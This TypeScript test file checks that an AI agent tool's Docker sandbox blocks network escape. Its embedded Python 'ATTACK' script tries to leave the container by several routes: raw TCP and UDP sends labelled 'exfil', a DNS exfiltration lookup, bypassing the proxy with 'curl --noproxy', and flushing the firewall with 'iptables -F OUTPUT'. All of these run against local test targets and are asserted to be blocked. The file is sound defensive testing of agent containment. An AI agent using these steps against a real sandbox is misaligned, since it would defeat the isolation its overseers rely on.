// The Docker backend's network boundary, attacked from inside a real agent
// container: raw TCP and UDP past the proxy, IPv6, DNS, ICMP, the firewall
// itself. Every target is this host's own listener or a container we made.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { mkdirSync, readFileSync } from 'node:fs';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { BIN, cli, needs, tempHome, writeFile } from '../helpers.js';
import { docker, leftoversOf, sessionOf } from '../docker-setup.js';

const ATTACK = String.raw`
import json, os, socket, subprocess, sys
host_port, udp_port, lo_port, other_ip = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
proxy = os.environ["HTTPS_PROXY"].split("//")[1].split("@")[-1]
gw, proxy_port = proxy.split(":")[0], int(proxy.split(":")[1])
out = {}
def tcp(name, family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        out[name] = "open"
    except Exception as e:
        out[name] = "blocked: " + type(e).__name__
    finally:
        s.close()
tcp("gateway_other_port", socket.AF_INET, (gw, host_port))
tcp("proxy_port", socket.AF_INET, (gw, proxy_port))
tcp("loopback_host_port", socket.AF_INET, ("127.0.0.1", lo_port))
tcp("other_container", socket.AF_INET, (other_ip, 8000))
tcp("v4_mapped_gateway", socket.AF_INET6, ("::ffff:" + gw, host_port))
tcp("v6_loopback", socket.AF_INET6, ("::1", host_port))
def udp(name, addr, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(payload, addr)
        s.recvfrom(512)
        out[name] = "answered"
    except Exception as e:
        out[name] = "blocked: " + type(e).__name__
    finally:
        s.close()
udp("udp_gateway", (gw, udp_port), b"exfil")
udp("udp_quic_gateway", (gw, 443), b"\xc0quic")
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0bstashbase-dns\x07invalid\x00\x00\x01\x00\x01"
udp("dns_embedded_resolver", ("127.0.0.11", 53), query)
try:
    socket.getaddrinfo("exfil-data.stashbase-canary.invalid", 443)
    out["dns_lookup"] = "resolved"
except Exception as e:
    out["dns_lookup"] = "failed: " + type(e).__name__
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    out["raw_icmp"] = "open"
except Exception as e:
    out["raw_icmp"] = "blocked: " + type(e).__name__
out["resolv_conf"] = open("/etc/resolv.conf").read().strip()
out["ipv6_disabled"] = open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip()
out["cap_eff"] = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
r = subprocess.run(["iptables", "-F", "OUTPUT"], capture_output=True, text=True)
out["iptables_flush"] = [r.returncode, r.stderr.strip()]
r = subprocess.run(["iptables", "-S"], capture_output=True, text=True)
out["iptables_list"] = r.returncode
r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "http://denied.test/"], capture_output=True, text=True)
out["proxy_denies"] = r.stdout
r = subprocess.run(["curl", "-sS", "--noproxy", "*", "-m", "3", "http://%s:%d/" % (gw, host_port)], capture_output=True, text=True)
out["curl_noproxy"] = r.returncode
print("RESULT " + json.dumps(out))
`;

describe('Docker backend: the network boundary (real engine, attacked from inside)', needs('docker'), () => {
  const t = tempHome();
  const proj = join(t.dir, 'proj');
  const hits = { tcp: 0, udp: 0, lo: 0 };
  let tcpServer: Server;
  let loServer: Server;
  const udpServer = createSocket('udp4');
  const other = `sbtest-other-${process.pid}`;
  let otherIp = '';
  let ports: number[] = [];

  before(async () => {
    mkdirSync(proj, { recursive: true });
    // Ours, on every address of this host: reachable from the container were it not for the firewall.
    tcpServer = createServer((s) => (hits.tcp++, s.destroy()));
    loServer = createServer((s) => (hits.lo++, s.destroy()));
    await new Promise<void>((r) => tcpServer.listen(0, '0.0.0.0', r));
    await new Promise<void>((r) => loServer.listen(0, '127.0.0.1', r));
    await new Promise<void>((r) => udpServer.bind(0, '0.0.0.0', r));
    udpServer.on('message', () => hits.udp++);
    ports = [(tcpServer.address() as AddressInfo).port, udpServer.address().port, (loServer.address() as AddressInfo).port];
    docker(['network', 'create', other]);
    docker(['run', '-d', '--name', other, '--network', other, 'stashbase-test-base:latest', 'python3', '-m', 'http.server', '8000']);
    otherIp = docker(['inspect', '--format', '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}', other]).trim();
  });
  after(() => {
    tcpServer?.close();
    loServer?.close();
    udpServer.close();
    spawnSync('docker', ['rm', '-f', other]);
    spawnSync('docker', ['network', 'rm', other]);
    t.cleanup();
  });

  test('raw TCP, UDP, IPv6, DNS, ICMP and the firewall itself: all blocked; only the proxy answers', async () => {
    const r = await cli(['agent', 'run', '--docker-sandbox', 'true', '--', 'python3', '-c', ATTACK, ...ports.map(String), otherIp], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    const line = r.stdout.split('\n').find((l) => l.startsWith('RESULT '));
    assert.ok(line, r.stdout + r.stderr);
    const out = JSON.parse(line.slice(7)) as Record<string, unknown>;
    assert.equal(out.proxy_port, 'open', 'positive control: the proxy itself is reachable');
    assert.equal(out.proxy_denies, '403');
    for (const k of ['gateway_other_port', 'loopback_host_port', 'other_container', 'v4_mapped_gateway', 'v6_loopback', 'udp_gateway', 'udp_quic_gateway', 'dns_embedded_resolver', 'raw_icmp']) {
      assert.match(String(out[k]), /^blocked: /, `${k}: ${String(out[k])}`);
    }
    assert.match(String(out.dns_lookup), /^failed: /);
    assert.equal(out.resolv_conf, 'nameserver 0.0.0.0');
    assert.equal(out.ipv6_disabled, '1');
    assert.equal(out.cap_eff, '0000000000000000');
    const [code, stderr] = out.iptables_flush as [number, string];
    assert.notEqual(code, 0);
    // Refused at the netlink socket by the seccomp profile (netfilter is no family it allows), before the capability check would.
    assert.match(stderr, /Failed to initialize nft: Operation not permitted|Permission denied/);
    assert.notEqual(out.iptables_list, 0);
    assert.equal(out.curl_noproxy, 7, 'curl --noproxy: connection refused, like a denied host');
    assert.deepEqual(hits, { tcp: 0, udp: 0, lo: 0 }, 'nothing reached our listeners');
    assert.deepEqual(leftoversOf(sessionOf(r.stderr)), [], 'the run removed its containers and network');
  });

  test("the proxy serves only the run's containers: this host's other processes are refused", async () => {
    const child = spawn(process.execPath, [BIN, 'agent', 'run', '--silent', '--docker-sandbox', 'true', '--', 'sh', '-c', 'echo "$HTTPS_PROXY"; curl -sS -o /dev/null -w "%{http_code}\\n" http://denied.test/; sleep 20'], { env: t.env, cwd: proj, stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    for (let i = 0; i < 600 && out.split('\n').length < 3; i++) await new Promise((r) => setTimeout(r, 50));
    const [url = '', fromContainer] = out.split('\n');
    assert.equal(fromContainer, '403', 'the container is served');
    const { hostname, port } = new URL(url);
    const answer = await new Promise<string>((resolve) => {
      const s = connect({ host: hostname, port: Number(port) }, () => s.write('GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n'));
      let got = '';
      s.on('data', (d) => (got += String(d)));
      s.on('close', () => resolve(got));
      s.on('error', () => resolve(got));
    });
    child.kill('SIGTERM');
    await new Promise((r) => child.on('close', r));
    assert.equal(answer, '', 'a host process gets no answer at all');
  });

  test('the holder keeps no capability once its rules are in, and nothing of it is reachable from the agent', async () => {
    // From inside: every socket listening in the namespace the agent shares with
    // the holder (only Docker's embedded resolver, on 127.0.0.11), tried by its
    // real port over TCP and UDP; then the processes in view.
    const probe = String.raw`
import socket, struct
found = []
for proto, state in (("tcp", "0A"), ("udp", "07")):
    for line in open("/proc/net/" + proto).readlines()[1:]:
        f = line.split()
        if f[3] != state: continue
        ip = socket.inet_ntoa(struct.pack("<I", int(f[1].split(":")[0], 16)))
        port = int(f[1].split(":")[1], 16)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM)
        s.settimeout(2)
        try:
            if proto == "tcp": s.connect((ip, port))
            else:
                s.sendto(b"\x124\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x04test\x00\x00\x01\x00\x01", (ip, port)); s.recvfrom(512)
            found.append("%s %s open" % (proto, ip))
        except OSError as e:
            found.append("%s %s blocked" % (proto, ip))
print(" ".join(sorted(found)))
import os
print(" ".join(sorted(open("/proc/%s/comm" % p).read().strip() for p in os.listdir("/proc") if p.isdigit())))
`;
    const script = `python3 -c '${probe}'; echo ready; sleep 20`;
    const child = spawn(process.execPath, [BIN, 'agent', 'run', '--docker-sandbox', 'true', '--', 'sh', '-c', script], { env: t.env, cwd: proj, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
    for (let i = 0; i < 1200 && !out.includes('ready'); i++) await new Promise((r) => setTimeout(r, 50));
    try {
      const [listeners, processes] = out.split('\n');
      assert.equal(listeners, 'tcp 127.0.0.11 blocked udp 127.0.0.11 blocked', 'the only listeners in the shared namespace are unreachable');
      // docker --init, sh and the probe itself: the holder's processes are not in view.
      assert.equal(processes, 'docker-init python3 sh', out);
      const holder = `stashbase-agent-run-${sessionOf(err)}-net`;
      const pid = docker(['inspect', '--format', '{{.State.Pid}}', holder]).trim();
      const procs = [pid, ...readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean)];
      const caps = (p: string) => readFileSync(`/proc/${p}/status`, 'utf8').split('\n').filter((l) => /^Cap(Inh|Prm|Eff|Bnd|Amb):/.test(l)).map((l) => l.split(/\s+/)[1]);
      assert.equal(readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')[0], 'sleep', 'the holder now holds the namespace with sleep');
      for (const p of procs) assert.deepEqual(caps(p), ['0000000000000000', '0000000000000000', '0000000000000000', '0000000000000000', '0000000000000000'], `holder process ${p}`);
      // The control: a holder as created, before it drops them, has NET_ADMIN (bit 12) and SETPCAP (bit 8).
      const before = docker(['run', '--rm', '--cap-drop', 'ALL', '--cap-add', 'NET_ADMIN', '--cap-add', 'SETPCAP', '--user', '0:0', '--entrypoint', 'sh', 'stashbase-test-base:latest', '-c', 'grep CapEff /proc/self/status']);
      assert.equal(before.trim(), 'CapEff:\t0000000000001100');
    } finally {
      child.kill('SIGTERM');
      await new Promise((r) => child.on('close', r));
    }
  });

  test('a firewall that does not take effect is caught by the canary: nothing runs, everything is removed', async () => {
    // A holder image whose iptables-restore accepts the rules and installs none.
    const broken = 'stashbase-test-broken-firewall:latest';
    const ctx = join(t.dir, 'broken');
    writeFile(join(ctx, 'Dockerfile'), 'FROM stashbase-sandbox:latest\nRUN printf \'#!/bin/sh\\ncat >/dev/null\\n\' > /usr/local/sbin/iptables-restore && chmod 755 /usr/local/sbin/iptables-restore && cp /usr/local/sbin/iptables-restore /usr/local/sbin/ip6tables-restore\n');
    docker(['build', '--quiet', '--tag', broken, ctx]);
    try {
      const r = await cli(['agent', 'run', '--docker-sandbox', 'true', '--', 'sh', '-c', 'touch ran-anyway'], { env: { ...t.env, STASHBASE_DOCKER_IMAGE: broken }, cwd: proj, timeoutMs: 90_000 });
      assert.equal(r.code, 4, r.stderr);
      assert.match(r.stderr, /^stashbase: the firewall self-check failed: the canary \d+\.\d+\.\d+\.\d+:\d+ is still reachable: the firewall did not take effect; nothing was run$/m);
      assert.equal(spawnSync('test', ['-e', join(proj, 'ran-anyway')]).status, 1, 'the agent never started');
      assert.deepEqual(leftoversOf(sessionOf(r.stderr)), []);
    } finally {
      spawnSync('docker', ['image', 'rm', '-f', broken]);
    }
  });
});
